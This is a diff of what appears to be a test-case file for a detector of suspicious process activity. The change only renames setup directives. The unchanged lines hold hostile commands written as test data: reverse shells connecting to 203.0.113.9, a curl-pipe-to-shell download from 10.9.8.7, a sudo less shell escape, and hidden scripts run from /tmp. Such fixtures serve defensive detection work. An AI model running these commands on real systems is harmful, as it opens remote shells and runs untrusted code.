@@ -5,7 +5,7 @@ sh -c 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | timeout 1 telnet 203.0.113.9 444
 ## Reverse shell in one line of an interpreter
 python3 -c 'import socket,os; s=socket.socket(); s.connect(("203.0.113.9",4445)); os.dup2(s.fileno(),0); os.system("/bin/sh")'
 ## Shell with a connection, of a program that no package installed
-#setup shell /home/ann/tool
+#setup shells /home/ann/tool
 remote '/home/ann/tool -c "sh -c true; true"'
 ## Input and output tied to a connection with another machine
 #setup listener 4445
@@ -21,15 +21,15 @@ sh -c 'curl -s http://10.9.8.7/x | sh'
 ## Downloaded script run by a server's command
 server "sh -c 'curl -s http://10.9.8.7/x | sh'"
 ## Shell started by cron runs from a scratch folder
-#setup shell /usr/sbin/cron
+#setup shells /usr/sbin/cron
 cron -c '/bin/sh -c "/tmp/.x >/dev/null 2>&1; true"; true'
 ## Shell out of a program started by sudo
-#setup shell /usr/bin/sudo /usr/bin/less
+#setup shells /usr/bin/sudo /usr/bin/less
 sudo -c 'less -c "sh -c true; true"; true'
 ## Compiler started by a server's command
 server 'cc --version'
 ## Tool of attackers started
-#setup named /tmp/pspy64
+#setup stubs /tmp/pspy64
 /tmp/pspy64
 ## Interpreter runs a script from a scratch folder
 echo true > /tmp/x.sh; sh /tmp/x.sh
